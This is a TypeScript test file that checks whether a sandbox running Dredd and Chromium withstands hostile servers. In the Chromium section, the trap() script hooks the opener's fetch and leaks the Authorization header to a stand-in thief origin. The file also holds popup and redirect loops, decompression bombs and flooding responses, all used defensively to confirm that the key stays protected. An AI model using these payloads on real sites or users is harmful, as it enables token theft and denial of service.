import type { IncomingMessage, RequestListener } from 'node:http';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Sandbox, startSandbox } from '../../reference-impl/index.ts';
import {
  body,
  compressedBomb,
  drippingBody,
  drippingHeaders,
  endlessAttachment,
  endlessBody,
  endlessHeaders,
  endlessProcessing,
  type Front,
  hostileFront,
  redirect,
  started,
} from '../support/hostile-servers.ts';
import { type Traces, traceFrom } from '../support/traces.ts';
import { messageOf, outcomesOf, type Visited, visit } from './visit.ts';

/** Deployments that attack the real Dredd and the real Chromium. */
let sandbox: Sandbox;
let key: string;
let traces: Traces;

beforeAll(async () => {
  sandbox = await startSandbox({ port: 0, seed: 1, scale: 0.02, rate: '100000/1s' });
  key = sandbox.keys.good;
});
afterAll(() => sandbox.close());

beforeEach(() => {
  traces = traceFrom();
});
afterEach(() => traces.end());

const TIMEOUT_MS = 1000;
const DISK_MB = 100;

interface Attacked extends Visited {
  readonly seconds: number;
}

async function attack(
  area: 'dredd' | 'browser',
  isMeant: (request: IncomingMessage) => boolean,
  answer: RequestListener,
): Promise<Attacked> {
  const started = performance.now();
  const front = hostileFront(isMeant, answer);
  const visited = await visit(area, sandbox.handle, key, { front, timeoutMs: TIMEOUT_MS });
  return { ...visited, seconds: (performance.now() - started) / 1000 };
}

function expectNothingLeft({ written }: Attacked): void {
  expect(traces.processes()).toEqual([]);
  expect(traces.files()).toEqual([]);
  expect(traces.diskMegabytes()).toBeLessThan(DISK_MB);
  expect(written).not.toContain(key.slice(-20));
}

describe('Chromium', () => {
  /** Chromium starts, and twelve requests time out. */
  const DEADLINE_S = 30;
  const CHROMIUM_MB = 700;

  const isDocument = ({ url = '', headers }: IncomingMessage) =>
    url.endsWith('/openapi.json') && 'sec-fetch-mode' in headers;
  const isMe = ({ url = '', headers }: IncomingMessage) => url.endsWith('/me') && 'sec-fetch-mode' in headers;

  /** Another origin, which no browser of ours has any business with. */
  let thief: Front;
  let visits: string[];

  beforeEach(async () => {
    visits = [];
    thief = await started(({ url = '' }, response) => {
      visits.push(url);
      response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(trap());
    });
  });
  afterEach(() => thief.close());

  /** Opens a popup that leads its opener here again and again, and reads what its opener fetches. */
  function trap(): string {
    return `<script>
      const hook = (page) => {
        try {
          if (page.hooked) return;
          page.hooked = true;
          page.fetch = (_, asked) => { new Image().src = '${thief.url}/got?' + asked.headers.Authorization; return new Promise(() => 0); };
        } catch {}
      };
      hook(window);
      const popup = window.opener === null ? window.open(location.href) : null;
      if (window.opener !== null) setInterval(() => {
        try { hook(window.opener); } catch {}
        if (!window.opener.hooked) window.opener.location = '${thief.url}/back';
      }, 10);
    </script>`;
  }

  const traps: readonly (readonly [string, () => RequestListener])[] = [
    ['a redirect to another origin, whose popup leads its opener back', () => redirect(() => `${thief.url}/`)],
    ['a page that opens such a popup itself', () => body(trap, 'text/html')],
    [
      'headers that send a page elsewhere',
      () => (_, response) => {
        const headers = { refresh: `0; url=${thief.url}/`, link: `<${thief.url}/a.js>; rel=preload; as=script` };
        response.writeHead(200, { ...headers, 'content-type': 'text/html' }).end(trap());
      },
    ],
    [
      'a page that opens windows without end',
      () => body(() => `<script>for (;;) open('${thief.url}/')</script>`, 'text/html'),
    ],
  ];

  it.each(traps)('gives the key to nobody for %s', async (_name, answer) => {
    const attacked = await attack('browser', isDocument, answer());
    expect(visits).toEqual([]);
    expect(outcomesOf(attacked.run, 'browser')['browser-cross-origin-blocked']).toBe('passed');
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expectNothingLeft(attacked);
  });

  it('gives the key to nobody where /me redirects to another origin', async () => {
    const attacked = await attack(
      'browser',
      isMe,
      redirect(() => `${thief.url}/me`),
    );
    expect(visits).toEqual([]);
    expectNothingLeft(attacked);
  });

  const floods: readonly (readonly [string, RequestListener])[] = [
    ['an endless attachment', endlessAttachment],
    ['an endless body', endlessBody],
    ['a body that bursts when it is decoded', compressedBomb],
    ['a body that drips', drippingBody],
    ['endless headers', endlessHeaders],
    ['headers that drip', drippingHeaders],
    ['answers that say "wait" without end', endlessProcessing],
  ];

  it.each(floods)('ends soon and small, for %s', async (_name, answer) => {
    const attacked = await attack('browser', (request) => isDocument(request) || isMe(request), answer);
    const outcomes = Object.values(outcomesOf(attacked.run, 'browser'));
    expect(new Set(['passed', 'cantTell']).isSupersetOf(new Set(outcomes))).toBe(true);
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expect(traces.peakMegabytes()).toBeLessThan(CHROMIUM_MB);
    expectNothingLeft(attacked);
  });
});

describe('Dredd', () => {
  /** Dredd loads, and six requests time out. */
  const DEADLINE_S = 30;
  const DREDD_MB = 400;

  const isDredd = ({ headers }: IncomingMessage) => String(headers['user-agent']).startsWith('Dredd');

  const floods: readonly (readonly [string, RequestListener, RegExp])[] = [
    ['an endless body', endlessBody, /a body larger than 32 MB was not read/],
    ['a body that bursts when it is decoded', compressedBomb, /a body larger than 32 MB was not read/],
    ['a body that drips', drippingBody, /no complete answer within 1 s/],
    ['endless headers', endlessHeaders, /Header overflow/],
    ['headers that drip', drippingHeaders, /no complete answer within 1 s/],
    ['answers that say "wait" without end', endlessProcessing, /no complete answer within 1 s/],
  ];

  it.each(floods)('ends soon and small, with the reason, for %s', async (_name, answer, reason) => {
    const attacked = await attack('dredd', isDredd, answer);
    expect(new Set(Object.values(outcomesOf(attacked.run, 'dredd')))).toEqual(new Set(['cantTell']));
    expect(messageOf(attacked.run, 'dredd-served')).toMatch(reason);
    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
    expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
    expectNothingLeft(attacked);
  });

  const large: readonly (readonly [string, () => string])[] = [
    ['millions of wrong records', () => `{"data":[${'0,'.repeat(15e6)}0]}`],
    ['millions of levels', () => '['.repeat(15e6) + ']'.repeat(15e6)],
    ['megabytes that are not JSON', () => 'a'.repeat(31e6)],
  ];

  it.each(large)('ends soon and small for %s', async (_name, text) => {
    const attacked = await attack('dredd', isDredd, body(text));
    expect(Object.values(outcomesOf(attacked.run, 'dredd'))).not.toContain('passed');
    expect(attacked.seconds).toBeLessThan(2 * DEADLINE_S);
    expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
    expectNothingLeft(attacked);
  });
});
